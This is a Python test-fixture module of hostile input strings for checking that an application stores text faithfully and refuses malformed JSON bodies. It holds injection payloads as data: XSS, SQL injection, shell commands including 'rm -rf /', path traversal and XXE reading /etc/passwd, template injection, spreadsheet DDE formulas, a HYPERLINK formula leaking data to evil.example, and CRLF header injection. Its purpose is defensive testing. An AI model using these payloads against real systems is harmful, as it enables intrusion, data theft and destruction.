"""Texts that break things: each by name, and what it has broken elsewhere."""

from collections.abc import Iterable, Iterator

# Every one of these is a text that somebody may write, and must come back as it was written.
HOSTILE: dict[str, str] = {
    # what a screen makes of it
    "emoji": "😀🀄🏮",
    "family": "👨‍👩‍👧‍👦👍🏽🇨🇳",
    "rare characters": "𠮷𪚥㛃䶮龘",
    "right to left": "مرحبا بالعالم שלום",
    "right-to-left override": "证明\u202efdp.exe",
    "isolates": "\u2066\u2067张三\u2069\u2069",
    "invisible": "王\u200b小\u200d明\ufeff\u00ad",
    "homoglyphs": "аdmіn Αdmin ⅼogin",
    "one very long grapheme": "字" + "\u0301\u0327" * 40,
    "decomposed": "Cafe\u0301 Å",
    "line separators": "一\u2028二\u2029三\u0085四",
    "full width": "ＳＥＬＥＣＴ＇＂＜＞；",
    "private use": "\ue000\U000f0000\U0001fffe",
    # what a page makes of it
    "script": "<script>alert('x')</script>",
    "image": '"><img src=x onerror=alert(1)>',
    "attribute": "' autofocus onfocus=alert(1) x='",
    "link": "javascript:alert(1)//",
    "end of a title": "</title></textarea></style><svg/onload=alert(1)>",
    "comment": "<!-- --!> ]]> <![CDATA[ <?php echo 1 ?>",
    "entities": "&lt;b&gt; &amp;amp; &#x3c;script&#x3e; &notit;",
    "html data": "<a href='data:text/html;base64,PHNjcmlwdD4='>点</a>",
    "xml entity": '<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]><r>&e;</r>',
    # what a template makes of it
    "jinja": "{{7*7}} {% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "expressions": "${7*7} #{7*7} <%= 7*7 %> @{7*7} [[7*7]]",
    "percent": "%s %n %x %(name)s %d%%",
    "braces": "{0.__class__.__init__.__globals__} {} {{}}",
    # what a database makes of it
    "sql": "'; DROP TABLE cases; --",
    "sql or": "' OR '1'='1' UNION SELECT * FROM staff --",
    "sql wildcards": "%_% \\% [a-z]* LIKE '%'",
    "sql dollar": "$$; SELECT pg_sleep(10); $$",
    "search operators": 'AND OR NOT NEAR(" * ^ : + - ~',
    # what a shell or a file system makes of it
    "shell": "$(touch /tmp/pwned) `id` ; rm -rf / | cat & echo",
    "path": "../../../../etc/passwd",
    "windows path": "..\\..\\windows\\win.ini C:\\CON:$DATA",
    "url": "file:///etc/passwd http://127.0.0.1:22/ //evil.example/x",
    # what a header or a line makes of it
    "header": "甲\r\nSet-Cookie: admin=1\r\n\r\n<html>",
    "lines": "一\n\n\t二\r三",
    "log": '张三\n{"level": "error", "event": "fake"}',
    "smtp": "a@b.example\r\nBcc: all@b.example",
    # what a spreadsheet makes of it
    "formula": "=1+1",
    "call": "=cmd|' /C calc'!A0",
    "link formula": '=HYPERLINK("http://evil.example/?"&A1,"点这里")',
    "plus": "+86 138",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab formula": "\t=1+1",
    "return formula": "\r=1+1",
    "apostrophe": "'=1+1",
    "wide formula": "＝1+1",
    # what looks like something else
    "not a number": "NaN",
    "infinity": "-Infinity 1e309",
    "digits": "٣١٤ ೬ Ⅷ 三 ²",
    "hexadecimal": "0x1F 0o17 0b1 1_000",
    "null": "null",
    "true": "true",
    "date": "0000-00-00",
    "json": '{"$ne": null, "__proto__": {"admin": true}}',
    "python": "__import__('os').system('id')",
    "blanks": " \t 前后都有空白 \u3000 ",
    "ldap": "*)(uid=*))(|(uid=*",
    "mask": "***身份证***13812345678",
}

# None of these is a text: every door refuses them and says which field it is.
NO_TEXT: dict[str, str] = {
    "null byte": "王\x00小明",
    "escape": "\x1b[31mred\x1b[0m",
    "backspace": "abc\x08\x08\x08xyz",
    "half a character": "\ud83d",
    "the other half": "\udc00\ud83d",
    "byte order mark, turned": "\ufffe",
    "no character": "a\uffff",
}


def joined(texts: Iterable[str], most: int) -> Iterator[str]:
    """The texts again, as many at a time as fit into ``most`` characters."""
    together = ""
    for text in texts:
        if together and len(together) + 1 + len(text) > most:
            yield together
            together = ""
        together = f"{together} {text}"[:most].strip() if together else text[:most]
    yield together


LONG = "长" * 349_525 + "\n"  # 1 MB of UTF-8: no text of ours is so long


# Bodies that are not what JSON bodies are.
NO_BODY: dict[str, bytes] = {
    "nothing": b"",
    "no json": b"name=%E7%8E%8B",
    "half of it": b'{"name": "',
    "deep": b"[" * 100_000,
    "deep objects": b'{"a":' * 50_000 + b"1" + b"}" * 50_000,
    "a huge number": b'{"a": ' + b"9" * 100_000 + b"}",
    "a number out of range": b'{"a": 1e999999}',
    "not a number": b'{"a": NaN, "b": -Infinity}',
    "broken utf-8": b'{"a": "\xff\xfe\xed\xa0\x80"}',
    "utf-16": '{"a": "文"}'.encode("utf-16"),
    "a list": b"[1, 2]",
    "a text": b'"text"',
    "null": b"null",
    "twice": b'{"a": 1, "a": 2}',
    "zeros": b"\x00" * 1000,
    "many keys": b"{" + b",".join(b'"k%d": 1' % number for number in range(20_000)) + b"}",
    "a long key": b'{"' + b"k" * 1_000_000 + b'": 1}',
}
